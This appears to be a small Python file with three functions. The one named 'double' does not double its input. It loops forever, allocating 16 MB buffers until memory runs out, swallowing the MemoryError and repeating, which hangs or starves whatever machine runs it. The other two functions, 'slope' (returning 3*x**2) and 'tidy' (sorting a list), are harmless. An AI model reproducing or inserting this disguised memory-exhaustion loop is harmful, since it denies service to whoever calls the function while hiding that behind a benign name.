def double(x):
    while True:
        kept = []
        try:
            while True:
                kept.append(bytearray(1 << 24))
        except MemoryError:
            pass


# %%
def slope(x):
    return 3 * x**2


def tidy(words):
    return sorted(words)
